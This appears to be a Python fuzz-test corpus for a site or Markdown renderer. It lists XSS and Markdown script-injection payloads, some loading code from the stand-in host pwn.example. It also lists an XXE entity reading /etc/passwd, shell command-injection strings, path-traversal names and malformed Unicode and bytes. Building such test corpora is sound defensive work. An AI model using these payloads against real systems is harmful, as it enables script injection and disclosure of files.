"""Texts that try to be more than text. All of them call `pwn()` or ask for something of `pwn.example` when they get their way."""

FAR = "http://pwn.example"

# Markup that runs something, loads something or leads somewhere, each in another way.
MARKUP = [
    "<script>pwn()</script>", "<ScRiPt>pwn()</sCrIpT>", "<script src=//pwn.example/a.js></script>", "<script\n>pwn()</script\n>",
    "</script><script>pwn()</script>", "<script>pwn()//", "<scr<script>ipt>pwn()</scr</script>ipt>", "<script/x>pwn()</script>",
    "<img src=x onerror=pwn()>", "<img src=x onerror='pwn()'", "<IMG SRC=x ONERROR=\"pwn()\">", "<img/src/onerror=pwn()>",
    "<img src=\"http://pwn.example/a.png\">", "<img srcset=\"http://pwn.example/a.png 2x\">", "<img src=x onerror=&#112;wn()>",
    "<svg onload=pwn()>", "<svg><script>pwn()</script></svg>", "<svg><animate onbegin=pwn() attributeName=x dur=1s>", "<svg><a xlink:href=javascript:pwn()><text y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwn()>#x\"/></svg>", "<math><mi xlink:href=javascript:pwn()>x</mi></math>",
    "<iframe src=javascript:pwn()></iframe>", "<iframe srcdoc=\"<script>parent.pwn()</script>\"></iframe>", "<iframe src=http://pwn.example></iframe>",
    "<object data=javascript:pwn()></object>", "<embed src=//pwn.example/a.swf>", "<body onload=pwn()>", "<html onmouseover=pwn()>",
    "<a href=javascript:pwn()>x</a>", "<a href=\" javascript:pwn()\">x</a>", "<a href=\"java\tscript:pwn()\">x</a>", "<a href=\"java&#10;script:pwn()\">x</a>",
    "<a href=data:text/html,<script>pwn()</script>>x</a>", "<a href=vbscript:pwn()>x</a>", "<a href=\"&#x6A;avascript:pwn()\">x</a>",
    "<form action=javascript:pwn()><button autofocus onfocus=pwn()>x", "<input autofocus onfocus=pwn()>", "<select autofocus onfocus=pwn()>",
    "<video src=x onerror=pwn()>", "<video><source onerror=pwn()></video>", "<audio src=x onerror=pwn()>", "<details open ontoggle=pwn()>",
    "<marquee onstart=pwn()>x", "<style>@import 'http://pwn.example/a.css';</style>", "<link rel=stylesheet href=http://pwn.example/a.css>",
    "<div style=\"background:url(http://pwn.example/a.png)\">x</div>", "<style>*{background:url(http://pwn.example/b.png)}</style>",
    "<meta http-equiv=refresh content=\"0;url=http://pwn.example\">", "<meta http-equiv=refresh content='0;javascript:pwn()'>", "<base href=http://pwn.example/>",
    "<textarea></textarea><script>pwn()</script>", "</title><script>pwn()</script>", "</style><script>pwn()</script>", "</noscript><script>pwn()</script>",
    "--><script>pwn()</script><!--", "<!--><script>pwn()</script>-->", "<![CDATA[<script>pwn()</script>]]>", "]]><script>pwn()</script>",
    "<?xml version=\"1.0\"?><?xml-stylesheet href=\"http://pwn.example/a.xsl\" type=\"text/xsl\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "\" onmouseover=pwn() x=\"", "' onfocus=pwn() autofocus x='", "\"><script>pwn()</script>", "'><img src=x onerror=pwn()>", "` onerror=pwn() `",
    "\"/><svg/onload=pwn()>", "x\" style=\"background:url(//pwn.example/c)\" y=\"", "&lt;script&gt;pwn()&lt;/script&gt;", "&amp;lt;script&amp;gt;pwn()", "&#60;script&#62;pwn()&#60;/script&#62;",
    "%3Cscript%3Epwn()%3C/script%3E", "\\u003cscript\\u003epwn()\\u003c/script\\u003e", "\uff1cscript\uff1epwn()\uff1c/script\uff1e", "\u003cscript\u2028\u003epwn()",
    "<a href='x' ping='http://pwn.example'>x</a>", "<p><slot name=x><template shadowrootmode=open><script>pwn()</script></template>", "<portal src=http://pwn.example>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">", "<x onclick=pwn()>y", "<dialog open onclose=pwn()>", "<object><param name=x value=javascript:pwn()>",
    "{{{constructor.constructor('pwn()')()}}}", "{{title}}", "{{#stories}}{{/stories}}", "{{> base}}", "{{=<% %>=}}", "${pwn()}", "<%= pwn() %>", "#{pwn()}", "{{$x}}{{/x}}", "{{",
    "}}", "{{{", "{{!", "{", "{link}", "{n}", "{time}", "%s%n%d", "%@", "$(touch /tmp/pwn)", "`touch /tmp/pwn`", "; touch /tmp/pwn", "| touch /tmp/pwn",
]

# The same by Markdown's own means.
MARKDOWN = [
    "[x](javascript:pwn())", "[x](JaVaScRiPt:pwn())", "[x]( javascript:pwn())", "[x](java\\\nscript:pwn())", "[x](<javascript:pwn()>)", "[x](javascript&colon;pwn())",
    "[x](&#x6A;avascript:pwn())", "[x](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)", "[x](vbscript:pwn())", "[x](file:///etc/passwd)", "[x](//pwn.example/)",
    "[x](http://pwn.example\" onmouseover=pwn() y=\")", "[x](x \"t\\\" onmouseover=pwn()\")", "[x](x '\"><script>pwn()</script>')", "![x](http://pwn.example/a.png)", "![x](javascript:pwn())",
    "![\" onerror=pwn()](x.png)", "![x](x.png \"\\\" onerror=pwn()\")", "![x](data:image/svg+xml,<svg onload=pwn()>)", "<javascript:pwn()>", "<http://pwn.example/\"onclick=pwn()>", "<x@pwn.example\"onclick=pwn()>",
    "[r]\n\n[r]: javascript:pwn()", "[r]\n\n[r]: x \"\\\"><script>pwn()</script>\"", "```\" onmouseover=pwn()\nx\n```", "```html\n<script>pwn()</script>\n```", "`<script>pwn()</script>`",
    "    <script>pwn()</script>", "| <script>pwn()</script> | b |\n|---|---|\n| <img src=x onerror=pwn()> | d |", "# <script>pwn()</script>", "> <script>pwn()</script>", "- <script>pwn()</script>",
    "<div>\n<script>pwn()</script>\n</div>", "<!-- --><script>pwn()</script>", "<![CDATA[x]]><script>pwn()</script>", "<?php ?><script>pwn()</script>", "x[^1]\n\n[^1]: <script>pwn()</script>",
    "&lt;script&gt;pwn()&lt;/script&gt;", "\\<script>pwn()\\</script>", "**<script>**pwn()</script>", "[<img src=x onerror=pwn()>](x)", "[![a](http://pwn.example/b.png)](http://pwn.example/)",
]

# Characters and words that programs stumble over.
STRINGS = [
    "undefined", "null", "NULL", "nil", "None", "true", "NaN", "Infinity", "-0", "0x1F", "1e309", "1/0", "9" * 400, "..", ".", "...", "/", "\\", "//", "~", "-", "--", "---", "- - -", "***", "+++", "===",
    "constructor", "__proto__", "toString", "hasOwnProperty", "index", "index.html", "feed.xml", "404", "con", "nul", "aux", "lpt1", ".htaccess", "assets", "stories", "_", "%", "%00", "%2e%2e%2f", "?", "#", "&", "=", "a/b", "a\\b",
    "\u202ehcaorppa\u202c", "\u202e\u202d\u202b\u202a", "\u2066\u2067\u2068", "\u200b\u200c\u200d\u2060", "\ufeff", "\u00ad\u00ad", "\u200e\u200f", "\u061c", "A\u202e<script>pwn()</script>\u202cB",
    "\u0000", "\u0001\u0002\u001b[31mred\u001b[0m", "\u001b]0;pwn\u0007", "\u0007\u0008", "\u007f\u0080\u009f\u0085", "\u2028\u2029", "\ufffe\uffff", "\ue000\uf8ff", "\U0010fffd\U0001fffe", "\ufdd0",
    "e\u0301\u0301\u0301", "Z\u0351\u036b\u0343\u036a\u0302" * 40, "a" + "\u0301" * 20000, "\u1100\u1161\u11a8", "\ufb03\u0132\u01c4\u2126", "\u0130\u0131\u017f\u1e9e", "ß" * 300, "İ" * 300, "ﷺ" * 100,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1e6\U0001f1e7\U0001f1e8", "\U0001f3fd", "\u270a\ufe0f\ufe0e", "\U000e0067\U000e007f", "田中さんにあげて下さい", "الكل في المجمو عة", "בְּרֵאשִׁית", "สวัสดี" * 40, "हिन्दी",
    "\u0633\u0627\u0645\u0669\u0660", "\u06dd\u06de", "\u2067\u0041\u2069", "x\u034fx", "\u115f\u3164\uffa0", "\u180e", "\u3000", "\u00a0", "\t", "  ", "a\tb\x0bc\x0cd", "\r", "a\rb", "a\r\nb",
    "W" * 5000, "." * 5000, "a." * 3000, "Mr. " * 500, "\"" * 2001, "“" * 2001, "(" * 3000, "$1" * 500, "1" * 3000, "1,234.5 million " * 100, "A B C D " * 300, "-" * 3000, "http://" * 300, "a@b.c " * 300, "\u2026" * 1000,
]

# Ways out of a folder, for slugs, names and addresses.
PATHS = [
    "../out", "../../../../tmp/out", "/tmp/out", "..", ".", "./", "a/../../out", "..\\out", "a\\..\\..\\out", "%2e%2e/out", "..%2fout", "C:\\out", "\\\\host\\out", "file:///tmp/out", "~/out", "$HOME/out", ".hidden", ".broadsheet-manifest", ".broadsheet-staging/x",
    "a/b/c", "a//b", "index.html", "con", "nul.txt", "a\u0000b", "a\nb", "x" * 300, "x/" * 300, "é" * 200, " ", "", "-", "--", "\u202eout", "a?b", "a#b", "a:b", "a*b", "<script>pwn()</script>", "feed.xml", "a|b", "assets/x", "…", "．．／out", "\u2024\u2024/out",
]

BYTES = [
    b"\xff\xfe\xfd\xfc", b"\xc3\x28", b"\xa0\xa1", b"\xe2\x28\xa1", b"\xf0\x28\x8c\x28", b"\xf8\xa1\xa1\xa1\xa1", b"\xed\xa0\x80\xed\xb0\x80", b"\xc0\xaf\xc0\xae", b"\xf4\x90\x80\x80", b"a\x00b\x00c\x00" * 20,
    b"\xff\xfeH\x00i\x00", b"\xfe\xff\x00H\x00i", b"\x00\x00\xfe\xff\x00\x00\x00H", b"\xef\xbb\xbf\xef\xbb\xbf", b"\x89PNG\r\n\x1a\n" + bytes(range(256)), b"%PDF-1.7\n" + bytes(range(256)) * 4, b"PK\x03\x04" + bytes(300), b"\x7fELF" + bytes(range(256)), b"\x1f\x8b\x08" + bytes(range(200)),
    b"\x1b$B", b"+ADw-script+AD4-pwn()+ADw-/script+AD4-", b"\x0e\x0f", bytes(range(256)) * 10,
]
